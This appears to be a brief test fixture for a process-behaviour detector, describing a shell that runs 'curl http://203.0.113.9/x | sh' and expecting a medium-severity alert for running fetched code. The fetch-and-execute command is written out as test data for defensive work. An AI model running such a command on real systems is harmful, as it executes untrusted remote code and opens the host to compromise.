# From the network into a shell.
sh is /bin/bash uid=1000
sh fork x
x exec /bin/sh "sh -c curl http://203.0.113.9/x | sh"
expect medium runs what it fetched or decoded
